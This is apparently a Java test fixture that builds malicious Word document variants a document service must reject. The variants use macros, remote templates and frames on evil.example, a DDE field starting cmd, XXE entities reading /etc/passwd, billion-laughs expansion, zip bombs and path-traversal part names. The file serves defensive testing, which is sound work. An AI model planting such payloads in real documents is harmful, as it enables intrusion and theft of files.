package sightline.service.documents;

import static sightline.service.documents.Hostile.is;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Word documents that must be refused; each is the plain one with one thing changed. */
final class HostileDocuments {

    private static final String MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.%s+xml";
    private static final String DTD = "<!DOCTYPE a [<!ENTITY b \"%s\">]><a>&b;</a>";

    private HostileDocuments() {}

    static List<Hostile> all() {
        Docx plain = Docx.plain();
        byte[] whole = plain.bytes();
        return List.of(
                refused(Reason.MACROS, "with a macro project", plain.with("word/vbaProject.bin", new byte[9])),
                refused(
                        Reason.MACROS,
                        "with a macro project by another name",
                        plain.with("word/data.bin", new byte[9])
                                .typed("word/data.bin", "application/vnd.ms-office.vbaProject")),
                refused(
                        Reason.MACROS,
                        "with macros switched on",
                        plain.of("application/vnd.ms-word.document.macroEnabled.main+xml")),
                refused(
                        Reason.MACROS,
                        "that is related to a macro project",
                        plain.related("x/vbaProject", "a.bin", false)),
                refused(Reason.TYPE_NOT_ALLOWED, "that is a template", plain.of(MAIN.formatted("template.main"))),
                refused(
                        Reason.TYPE_NOT_ALLOWED,
                        "that is a workbook",
                        plain.of("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
                refused(
                        Reason.TYPE_NOT_ALLOWED,
                        "that is a presentation",
                        plain.of("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")),
                is(
                        Reason.TYPE_NOT_ALLOWED,
                        "an OpenDocument text",
                        "a.odt",
                        Docx.zip(Map.of("mimetype", Sample.utf8("application/vnd.oasis.opendocument.text")))),
                refused(
                        Reason.LINK_TO_OUTSIDE,
                        "with a template elsewhere",
                        plain.related("attachedTemplate", "https://evil.example/a.dotm", true)),
                refused(
                        Reason.LINK_TO_OUTSIDE,
                        "with a frame elsewhere",
                        plain.related("frame", "http://evil.example", true)),
                refused(
                        Reason.LINK_TO_OUTSIDE,
                        "with a picture elsewhere",
                        plain.related("image", "\\\\evil\\a.png", true)),
                refused(
                        Reason.LINK_TO_OUTSIDE,
                        "with a picture elsewhere that does not say so",
                        plain.related("image", "https://evil.example/a.png", false)),
                refused(
                        Reason.OBJECT_INSIDE,
                        "with an object elsewhere",
                        plain.related("oleObject", "https://evil.example/a", true)),
                refused(
                        Reason.LINK_TO_OUTSIDE,
                        "with a field that starts a program",
                        plain.saying("<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE</w:instrText>"
                                + "<w:instrText>AUTO c:\\\\cmd</w:instrText></w:r>")),
                refused(
                        Reason.LINK_TO_OUTSIDE,
                        "with a simple field that fetches a text",
                        plain.saying("<w:fldSimple w:instr=' IncludeText \"http://evil.example\"'/>")),
                refused(
                        Reason.OBJECT_INSIDE,
                        "with an OLE object",
                        plain.with("word/embeddings/oleObject1.bin", new byte[9])),
                refused(
                        Reason.OBJECT_INSIDE,
                        "with a workbook inside",
                        plain.with("word/embeddings/Sheet1.xlsx", new byte[9])),
                refused(
                        Reason.OBJECT_INSIDE,
                        "with an OLE object by another name",
                        plain.with("word/media/a.png", new byte[9])
                                .typed("word/media/a.png", "application/vnd.openxmlformats-officedocument.oleObject")),
                refused(Reason.OBJECT_INSIDE, "that is related to a package", plain.related("package", "a.bin", false)),
                refused(Reason.OBJECT_INSIDE, "with a control", plain.with("word/activeX/activeX1.xml", "<a/>")),
                refused(Reason.OBJECT_INSIDE, "with a web page inside", plain.related("aFChunk", "a.html", false)),
                refused(Reason.OBJECT_INSIDE, "with a place for a web page", plain.saying("<w:altChunk/>")),
                refused(Reason.ENTITIES, "with an entity", plain.with("word/document.xml", DTD.formatted("c"))),
                refused(
                        Reason.ENTITIES,
                        "with an entity from a file",
                        plain.with(
                                "word/styles.xml",
                                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")),
                refused(
                        Reason.ENTITIES,
                        "with a DTD elsewhere",
                        plain.with("a.xml", "<!DOCTYPE a SYSTEM 'http://x'><a/>")),
                refused(
                        Reason.ENTITIES,
                        "with an entity in UTF-16",
                        plain.with("docProps/core.xml", Sample.in(StandardCharsets.UTF_16, DTD.formatted("c")))),
                refused(
                        Reason.ENTITIES,
                        "with an entity in a part that does not look like XML",
                        plain.with("word/a.dat", DTD.formatted("c")).typed("word/a.dat", "application/x+xml")),
                refused(
                        Reason.ENTITIES,
                        "with a billion laughs",
                        plain.with("a.xml", "<!DOCTYPE a [<!ENTITY b \"c\"><!ENTITY d \"&b;&b;\">]><a>&d;</a>")),
                refused(
                        Reason.UNPACKS_TOO_LARGE,
                        "that bursts in one part",
                        plain.with("word/media/a", new byte[9_000_000])),
                refused(Reason.UNPACKS_TOO_LARGE, "that bursts in many parts", many(plain, 60, 3_500_000)),
                refused(Reason.UNPACKS_TOO_LARGE, "of 2,001 parts", many(plain, 1_998, 1)),
                refused(Reason.STRANGE_NAMES, "with a part outside", plain.with("../../etc/cron.d/a", "x")),
                refused(
                        Reason.STRANGE_NAMES,
                        "with a part in the middle that goes up",
                        plain.with("word/../../a", "x")),
                refused(Reason.STRANGE_NAMES, "with a part at the root", plain.with("/etc/passwd", "x")),
                refused(Reason.STRANGE_NAMES, "with a part on drive C", plain.with("C:\\a.exe", "x")),
                is(
                        Reason.STRANGE_NAMES,
                        "a Word document with a part that its list does not name",
                        "a.docx",
                        Docx.withHiddenPart(whole, Docx.zip(Map.of("a.exe", new byte[9])))),
                is(
                        Reason.STRANGE_NAMES,
                        "a Word document with a part that is there twice",
                        "a.docx",
                        Docx.withHiddenPart(whole, Docx.plain().bytes())),
                refused(Reason.DAMAGED, "without its text", plain.without("word/document.xml")),
                refused(Reason.DAMAGED, "with a text that is no XML", plain.with("word/document.xml", "<a><b></a>")),
                is(Reason.DAMAGED, "a Word document cut off", "a.docx", Arrays.copyOf(whole, whole.length - 30)));
    }

    private static Hostile refused(Reason reason, String what, Docx document) {
        return is(reason, "a Word document " + what, "a.docx", document.bytes());
    }

    private static Docx many(Docx plain, int parts, int bytes) {
        Map<String, byte[]> all = new LinkedHashMap<>(plain.parts());
        for (int i = 0; i < parts; i++) {
            all.put("word/media/" + i, new byte[bytes]);
        }
        return new Docx(all);
    }
}
